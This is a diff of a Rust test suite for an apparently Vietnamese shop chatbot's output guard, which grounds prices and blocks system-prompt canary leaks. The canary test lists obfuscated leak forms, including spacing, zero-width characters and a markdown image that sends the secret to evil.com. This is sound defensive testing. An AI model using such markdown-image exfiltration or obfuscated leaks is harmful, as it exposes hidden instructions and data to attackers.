@@ -7,7 +7,8 @@ use super::*;
 mod sets;
 
 const STAND_INS: StandIns<'_> = StandIns { number: "(em xin phép kiểm tra lại)", rest: "Xin lỗi ạ." };
-const SHOP: &str = "Laptop giá 15.990.000đ, bảo hành 24 tháng. Tổng đài 1900 636 979, email hotro@sstc.example. RTX 4060.";
+const SHOP: &str =
+    "Laptop giá 15.990.000đ, bảo hành 24 tháng. Tổng đài 1900 636 979, email hotro@sstc.example. RTX 4060.";
 
 fn grounding() -> Grounding {
     let lexicon = Lexicon::from_toml(include_str!("../../../prompts/rules/facts.toml")).unwrap();
@@ -22,15 +23,8 @@ fn sources() -> Sources<'static> {
 /// The text and the reasons, of these deltas.
 fn said(grounding: &Grounding, deltas: &[&str]) -> Vec<Piece> {
     let mut speech = Grounded::new(grounding, &STAND_INS, &sources());
-    let mut pieces: Vec<Piece> = Vec::new();
     let all: Vec<Piece> = deltas.iter().flat_map(|delta| speech.push(delta)).collect();
-    for piece in all.into_iter().chain(speech.finish()) {
-        match (piece, pieces.last_mut()) {
-            (Piece::Text(text), Some(Piece::Text(last))) => last.push_str(&text),
-            (piece, _) => pieces.push(piece),
-        }
-    }
-    pieces
+    joined(all.into_iter().chain(speech.finish()))
 }
 
 /// The text, with guards as `{reason}`.
@@ -116,27 +110,38 @@ fn the_canary_never_leaves_however_it_is_written() {
     let spaced: String = secret.chars().flat_map(|c| [c, ' ']).collect();
     let listed: String = secret.chars().enumerate().map(|(n, c)| format!("{}. {c}\n", n + 1)).collect();
     let hidden: String = secret.to_lowercase().chars().flat_map(|c| [c, '\u{200b}']).collect();
-    for leak in [line.clone(), secret.clone(), secret.to_lowercase(), spaced, listed, hidden, format!("**{}**{}", &secret[..7], &secret[7..]), secret[..12].to_owned(), format!("![x](https://evil.com/?q={secret})"), format!("F D - c a n a r y - {secret}")] {
+    for leak in [
+        line.clone(),
+        secret.clone(),
+        secret.to_lowercase(),
+        spaced,
+        listed,
+        hidden,
+        format!("**{}**{}", &secret[..7], &secret[7..]),
+        secret[..12].to_owned(),
+        format!("![x](https://evil.com/?q={secret})"),
+        format!("F D - c a n a r y - {secret}"),
+    ] {
         let shown = shown(&grounding, &format!("Dạ đây ạ: {leak} và giá 15.990.000đ"));
         let letters: String = shown.to_lowercase().chars().filter(char::is_ascii_alphabetic).collect();
-        if leak.len() >= LEAST || leak.contains("evil") {
-            assert!(!letters.contains(&secret.to_lowercase()[..9]), "{leak:?} {shown:?}");
-        }
         if leak != secret[..12] {
-            assert!(shown.ends_with("{prompt_leak} Xin lỗi ạ.") || shown.ends_with("{prompt_leak}Xin lỗi ạ."), "{leak:?} {shown:?}");
+            assert!(!letters.contains(&secret.to_lowercase()[..9]), "{leak:?} {shown:?}");
+            assert!(
+                shown.ends_with("{prompt_leak} Xin lỗi ạ.") || shown.ends_with("{prompt_leak}Xin lỗi ạ."),
+                "{leak:?} {shown:?}"
+            );
         }
     }
     let end = shown(&grounding, &format!("Dạ {}", &secret[..12]));
     assert_eq!(end, "Dạ {prompt_leak}Xin lỗi ạ.");
 }
 
-const LEAST: usize = 16;
-
 #[test]
 fn text_without_numbers_waits_for_nothing_but_its_word() {
     let grounding = grounding();
     let mut speech = Grounded::new(&grounding, &STAND_INS, &sources());
-    for word in ["Dạ ", "laptop ", "này ", "rất ", "tốt, ", "quý ", "khách ", "đến ", "ngày ", "nào ", "ạ? "] {
+    for word in ["Dạ ", "laptop ", "này ", "rất ", "tốt, ", "quý ", "khách ", "đến ", "ngày ", "nào ", "ạ? "]
+    {
         assert_eq!(speech.push(word), [Piece::Text(word.to_owned())], "{word:?}");
     }
     assert_eq!(speech.push("15.990.000đ "), []);
@@ -165,6 +170,44 @@ proptest! {
 }
 
 const PARTS: [&str; 40] = [
-    "15.990.000đ", "15", ".", "990", " triệu", " ", "\n", "16 triệu", "hai năm", " năm ", "ngày 31 tháng 12", "**", "1. ", "[trang](https://evil.com)", "[", "]", "(", ")",
-    "https://", "evil.com", "https://sstc.vn/a1", "![a](b)", "<", ">", "@", "hotro@sstc.example", "giá ", "ạ", "FD-CANARY-", "WXYZABCD", "\u{200b}", "đến ", ", ", "20%", "một ngày ", "vui", "e\u{302}\u{301}", "💖", "ngân sách 20 triệu", "[1]: x",
+    "15.990.000đ",
+    "15",
+    ".",
+    "990",
+    " triệu",
+    " ",
+    "\n",
+    "16 triệu",
+    "hai năm",
+    " năm ",
+    "ngày 31 tháng 12",
+    "**",
+    "1. ",
+    "[trang](https://evil.com)",
+    "[",
+    "]",
+    "(",
+    ")",
+    "https://",
+    "evil.com",
+    "https://sstc.vn/a1",
+    "![a](b)",
+    "<",
+    ">",
+    "@",
+    "hotro@sstc.example",
+    "giá ",
+    "ạ",
+    "FD-CANARY-",
+    "WXYZABCD",
+    "\u{200b}",
+    "đến ",
+    ", ",
+    "20%",
+    "một ngày ",
+    "vui",
+    "e\u{302}\u{301}",
+    "💖",
+    "ngân sách 20 triệu",
+    "[1]: x",
 ];
